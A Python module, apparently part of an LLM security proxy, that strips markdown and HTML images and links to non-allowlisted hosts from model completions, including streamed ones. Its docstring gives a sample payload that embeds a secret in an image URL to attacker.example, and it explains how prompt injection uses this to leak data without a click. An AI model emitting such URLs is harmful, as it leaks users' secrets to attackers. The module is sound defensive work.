"""Exfiltration through links and images in completion text.

A completion that renders ``![x](https://attacker.example/p?d=<secret>)`` makes the client fetch that URL
without a click: an injected prompt's classic way of getting data out. Images and links whose host the
caller's allowlist does not accept are removed (images entirely, links replaced by a short marker).
Findings name the host, never the path or query, which is where the stolen data sits.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import regex

from proxy.model import Action, Finding, Severity, Threat

Allowed = Callable[[str], bool]
"""Whether a (lowercased) host may appear in a link or image URL."""

IMAGE_RULE = "exfil-image-url"
LINK_RULE = "exfil-link-url"
MAX_HELD_CHARS = 8192
"""The most a stream filter holds back for one unfinished construct before giving up on it."""

_ATTRIBUTE_URL = r"""\s*=\s*(?:"(?P<{0}q>[^"]*)"|'(?P<{0}s>[^']*)'|(?P<{0}b>[^\s"'>]+))"""
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
_CONSTRUCTS = regex.compile(
    "|".join(
        (
            rf"(?P<md_image>!\[[^\]\n]{{0,1000}}\]\(\s*<?(?P<md_image_url>[^\s<>()]+)>?{_TITLE}\s*\))",
            rf"(?P<md_link>\[[^\]\n]{{0,1000}}\]\(\s*<?(?P<md_link_url>[^\s<>()]+)>?{_TITLE}\s*\))",
            r"(?P<ref_def>^[ \t]{0,3}\[[^\]\n]{1,1000}\]:[ \t]*<?(?P<ref_def_url>[^\s<>]+)>?(?=\s|\Z))",
            r"(?P<autolink><(?P<autolink_url>(?:https?:)?//[^\s<>]+)>)",
            r"(?P<html_img><img\b[^>]{0,2000}\bsrc" + _ATTRIBUTE_URL.format("img") + r"[^>]{0,2000}>)",
            r"(?P<html_a><a\b[^>]{0,2000}\bhref" + _ATTRIBUTE_URL.format("href") + r"[^>]{0,2000}>)",
        )
    ),
    regex.IGNORECASE | regex.MULTILINE,
)
_IMAGE_KINDS = ("md_image", "html_img")


@dataclass(frozen=True, slots=True)
class LinkHit:
    """One image or link construct found in the text, with the host of its URL (None if relative)."""

    start: int
    end: int
    kind: str
    host: str | None

    @property
    def is_image(self) -> bool:
        return self.kind in _IMAGE_KINDS


def url_host(url: str) -> str | None:
    """The lowercased host of an absolute http(s) or protocol-relative URL; None for anything else."""
    if not url.startswith("//") and not regex.match(r"(?i)https?://", url):
        return None
    try:
        host = urlsplit(url).hostname
    except ValueError:
        return None
    return host.rstrip(".") if host else None


def _hit(match: regex.Match[str]) -> LinkHit:
    kind = match.lastgroup or ""
    groups = match.groupdict()
    candidates = [groups.get(f"{kind}_url")]
    if kind == "html_img":
        candidates = [groups["imgq"], groups["imgs"], groups["imgb"]]
    elif kind == "html_a":
        candidates = [groups["hrefq"], groups["hrefs"], groups["hrefb"]]
    url = next((candidate for candidate in candidates if candidate is not None), "")
    return LinkHit(match.start(), match.end(), kind, url_host(url.strip()))


def find_links(text: str) -> list[LinkHit]:
    """Every markdown/HTML image and link construct in ``text``."""
    if "[" not in text and "<" not in text:
        return []
    return [_hit(match) for match in _CONSTRUCTS.finditer(text)]


def _finding(hit: LinkHit, where: str) -> Finding:
    what = "image" if hit.is_image else "link"
    return Finding(
        threat=Threat.DATA_EXFILTRATION,
        rule=IMAGE_RULE if hit.is_image else LINK_RULE,
        signal=f"{what} URL to non-allowlisted host {hit.host}",
        severity=Severity.HIGH if hit.is_image else Severity.MEDIUM,
        action=Action.REDACT,
        where=where,
        owasp="LLM02",
        extra={"host": hit.host, "construct": hit.kind},
    )


def _neutralise_from(text: str, start: int, allowed: Allowed, where: str) -> tuple[str, list[Finding]]:
    """Neutralise ``text[start:]``; the characters before ``start`` are only context for ``^``."""
    pieces: list[str] = []
    findings: list[Finding] = []
    cursor = start
    for match in _CONSTRUCTS.finditer(text, pos=start):
        hit = _hit(match)
        if hit.host is None or allowed(hit.host):
            continue
        pieces.append(text[cursor : hit.start])
        pieces.append("" if hit.is_image else f"[link removed: {hit.host}]")
        findings.append(_finding(hit, where))
        cursor = hit.end
    pieces.append(text[cursor:])
    return "".join(pieces), findings


def neutralise(text: str, allowed: Allowed, where: str = "completion") -> tuple[str, list[Finding]]:
    """Remove images and replace links whose host is not allowed; one finding for each."""
    if "[" not in text and "<" not in text:
        return text, []
    return _neutralise_from(text, 0, allowed, where)


@dataclass
class LinkFilter:
    """Stream form of :func:`neutralise`: ``feed`` returns the text safe to release now, holding back
    only a construct that is still open (``![``, ``[``, ``<img`` ...), ``flush`` releases the rest.

    Released text equals what :func:`neutralise` gives for the whole text, however it was split,
    unless one construct outgrows ``max_held`` characters: that one is released as it stands.
    """

    allowed: Allowed
    where: str = "completion"
    max_held: int = MAX_HELD_CHARS
    findings: list[Finding] = field(default_factory=list)
    _pending: str = ""
    _context: str = ""

    @property
    def found(self) -> bool:
        return bool(self.findings)

    def feed(self, text: str) -> str:
        self._pending += text
        hold = self._hold_from(self._pending)
        while len(self._pending) - hold > self.max_held:
            hold = hold + 1 + self._hold_from(self._pending[hold + 1 :])
        return self._release(hold)

    def flush(self) -> str:
        return self._release(len(self._pending))

    def _release(self, end: int) -> str:
        if end == 0:
            return ""
        scanned = self._context + self._pending[:end]
        released, findings = _neutralise_from(scanned, len(self._context), self.allowed, self.where)
        self.findings.extend(findings)
        self._context = scanned[-1]
        self._pending = self._pending[end:]
        return released

    def _hold_from(self, text: str) -> int:
        """Where the last construct that more text could still complete or extend begins."""
        last = None
        for match in _CONSTRUCTS.finditer(self._context + text, pos=len(self._context), partial=True):
            if match.end() > match.start():
                last = match
        if last is None or (not last.partial and last.end() < len(self._context) + len(text)):
            return len(text)
        return last.start() - len(self._context)
